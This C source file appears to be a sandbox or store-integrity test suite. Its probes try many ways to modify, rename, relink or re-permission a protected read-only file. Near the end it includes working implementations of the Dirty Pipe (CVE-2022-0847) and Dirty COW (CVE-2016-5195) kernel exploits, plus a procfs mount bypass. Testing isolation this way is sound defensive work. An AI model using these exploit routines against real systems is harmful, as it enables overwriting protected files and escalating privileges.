/* A stored blob through the input that is linked to it: ../precious. */

#define _GNU_SOURCE
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/falloc.h>
#include <linux/fs.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define BLOB "../precious"

/* Blobs have mode 0444, which binds an ordinary owner as long as he does not change it. */
static int open_blob(int flags)
{
    chmod(BLOB, 0666);
    return open(BLOB, flags);
}

static int change_mode(void)
{
    return verdict("chmod", chmod(BLOB, 0666));
}

static int change_mode_by_descriptor(void)
{
    return verdict("fchmod", fchmod(open(BLOB, O_RDONLY), 0666));
}

static int change_owner(void)
{
    return verdict("chown", chown(BLOB, getuid(), getgid()));
}

static int write_data(void)
{
    return verdict("write", write(open_blob(O_WRONLY), "evil", 4));
}

static int append_data(void)
{
    return verdict("write", write(open_blob(O_WRONLY | O_APPEND), "evil", 4));
}

static int truncate_by_path(void)
{
    chmod(BLOB, 0666);
    return verdict("truncate", truncate(BLOB, 1));
}

static int truncate_on_opening(void)
{
    return verdict("open(O_TRUNC)", open_blob(O_WRONLY | O_TRUNC));
}

static int truncate_by_descriptor(void)
{
    return verdict("ftruncate", ftruncate(open_blob(O_RDWR), 1));
}

static int reopen_a_descriptor(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", open_blob(O_RDONLY));
    return verdict("write", write(open(path, O_WRONLY), "evil", 4));
}

static int map_shared(void)
{
    char *data = mmap(NULL, 4, PROT_READ | PROT_WRITE, MAP_SHARED, open_blob(O_RDWR), 0);
    if (data == MAP_FAILED)
        return verdict("mmap", -1);
    data[0] = 'E';
    return verdict("mmap", 0);
}

static int map_and_protect(void)
{
    int file = open_blob(O_RDWR);
    char *data = mmap(NULL, 4, PROT_READ, MAP_SHARED, file, 0);
    return verdict("mprotect", data == MAP_FAILED ? -1 : mprotect(data, 4, PROT_READ | PROT_WRITE));
}

static int punch_a_hole(void)
{
    return verdict("fallocate", fallocate(open_blob(O_RDWR), FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4));
}

static int copy_into(void)
{
    int mine = open("mine", O_RDWR | O_CREAT, 0600);
    loff_t from = 0, to = 0;
    if (pwrite(mine, "evil", 4, 0) != 4)
        return 3;
    return verdict("copy_file_range", copy_file_range(mine, &from, open_blob(O_WRONLY), &to, 4, 0));
}

static int change_times(void)
{
    return verdict("utimensat", utimensat(AT_FDCWD, BLOB, NULL, 0));
}

static int change_times_by_descriptor(void)
{
    return verdict("futimens", futimens(open(BLOB, O_RDONLY), NULL));
}

static int set_attribute(void)
{
    chmod(BLOB, 0666);
    return verdict("setxattr", setxattr(BLOB, "user.escape", "1", 1, 0));
}

static int set_flags(void)
{
    int flags = 0, file = open(BLOB, O_RDONLY);
    if (ioctl(file, FS_IOC_GETFLAGS, &flags) != 0)
        return verdict("FS_IOC_GETFLAGS", -1);
    return verdict("FS_IOC_SETFLAGS", ioctl(file, FS_IOC_SETFLAGS, &flags));
}

static int link_and_change(void)
{
    if (link(BLOB, "linked") != 0)
        return verdict("link", -1);
    return verdict("chmod", chmod("linked", 0666));
}

static int link_a_descriptor(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", open(BLOB, O_RDONLY));
    return verdict("linkat", linkat(AT_FDCWD, path, AT_FDCWD, "linked", AT_SYMLINK_FOLLOW));
}

static int rename_over(void)
{
    close(open("mine", O_WRONLY | O_CREAT, 0600));
    return verdict("rename", rename("mine", BLOB));
}

static int rename_away(void)
{
    return verdict("rename", rename(BLOB, "stolen"));
}

static int remove_it(void)
{
    return verdict("unlink", unlink(BLOB));
}

static int rename_its_directory(void)
{
    return verdict("rename", rename("../below", "../elsewhere"));
}

static int exchange(void)
{
    close(open("mine", O_WRONLY | O_CREAT, 0600));
    return verdict("renameat2", renameat2(AT_FDCWD, "mine", AT_FDCWD, BLOB, RENAME_EXCHANGE));
}

static int change_mode_by_a_new_call(void)
{
    return verdict("fchmodat2", syscall(452, AT_FDCWD, BLOB, 0666, AT_SYMLINK_NOFOLLOW));
}

/* The link leads to what is below its own mount, whatever was mounted over it. */
static int change_mode_through_procfs(void)
{
    return verdict("chmod", chmod("/proc/self/cwd/" BLOB, 0666));
}

static int clone_into(void)
{
    int mine = open("mine", O_RDWR | O_CREAT, 0600);
    if (pwrite(mine, "evil", 4, 0) != 4)
        return 3;
    return verdict("FICLONE", ioctl(open_blob(O_WRONLY), FICLONE, mine));
}

static int splice_into(void)
{
    int ends[2];
    if (pipe(ends) != 0 || write(ends[1], "evil", 4) != 4)
        return 3;
    return verdict("splice", splice(ends[0], NULL, open_blob(O_WRONLY), NULL, 4, 0));
}

/* An owner may take a lease, and whoever opens the file then waits until it is given back. */
static int take_a_lease(int kind)
{
    signal(SIGIO, SIG_IGN);
    return verdict("F_SETLEASE", fcntl(open(BLOB, O_RDONLY), F_SETLEASE, kind));
}

static int lease_for_writing(void)
{
    return take_a_lease(F_WRLCK);
}

static int lease_for_reading(void)
{
    return take_a_lease(F_RDLCK);
}

static int is_changed(char *first)
{
    char now[4] = "";
    int file = open(BLOB, O_RDONLY);
    return pread(file, now, sizeof now, 0) == sizeof now && memcmp(now, first, sizeof now) != 0;
}

/* CVE-2022-0847: a page of the file in a pipe that the next write is merged into. */
static int dirty_pipe(void)
{
    char first[4] = "", rest[4096];
    int ends[2], file = open(BLOB, O_RDONLY);
    loff_t from = 0;
    if (pread(file, first, sizeof first, 0) != sizeof first || pipe(ends) != 0)
        return 3;
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    memset(rest, 0, sizeof rest);
    for (int filled = 0; filled < size; filled += (int)sizeof rest)
        if (write(ends[1], rest, sizeof rest) < 0)
            return 3;
    for (int drained = 0; drained < size; drained += (int)sizeof rest)
        if (read(ends[0], rest, sizeof rest) < 0)
            return 3;
    if (splice(file, &from, ends[1], NULL, 1, 0) != 1)
        return verdict("splice", -1);
    if (write(ends[1], "evil", 4) != 4)
        return verdict("write", -1);
    return verdict_if(is_changed(first), "the page in the pipe is the file's own");
}

/* CVE-2016-5195: /proc/self/mem writes where the mapping forbids it, into a copy that madvise throws away. */
static int dirty_cow(void)
{
    char first[4] = "";
    int file = open(BLOB, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char *data = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (data == MAP_FAILED || pread(file, first, sizeof first, 0) != sizeof first)
        return 3;
    for (int round = 0; round < 1000; round++) {
        if (pwrite(memory, "evil", 4, (off_t)data) != 4)
            return verdict("write to /proc/self/mem", -1);
        madvise(data, 4096, MADV_DONTNEED);
    }
    return verdict_if(is_changed(first), "what was written to a private mapping is in the file");
}

const struct probe STORE[] = {
    {"blob_chmod", change_mode},
    {"blob_fchmod", change_mode_by_descriptor},
    {"blob_chown", change_owner},
    {"blob_write", write_data},
    {"blob_append", append_data},
    {"blob_truncate", truncate_by_path},
    {"blob_open_truncate", truncate_on_opening},
    {"blob_ftruncate", truncate_by_descriptor},
    {"blob_reopen_a_descriptor", reopen_a_descriptor},
    {"blob_map_shared", map_shared},
    {"blob_map_and_protect", map_and_protect},
    {"blob_punch_a_hole", punch_a_hole},
    {"blob_copy_into", copy_into},
    {"blob_utimes", change_times},
    {"blob_futimens", change_times_by_descriptor},
    {"blob_setxattr", set_attribute},
    {"blob_set_flags", set_flags},
    {"blob_link_and_chmod", link_and_change},
    {"blob_link_a_descriptor", link_a_descriptor},
    {"blob_rename_over", rename_over},
    {"blob_rename_away", rename_away},
    {"blob_unlink", remove_it},
    {"blob_rename_its_directory", rename_its_directory},
    {"blob_exchange", exchange},
    {"blob_fchmodat2", change_mode_by_a_new_call},
    {"blob_chmod_through_procfs", change_mode_through_procfs},
    {"blob_clone_into", clone_into},
    {"blob_splice_into", splice_into},
    {"blob_lease_for_writing", lease_for_writing},
    {"blob_lease_for_reading", lease_for_reading},
    {"cve_2022_0847_dirty_pipe", dirty_pipe},
    {"cve_2016_5195_dirty_cow", dirty_cow},
    {NULL, NULL},
};
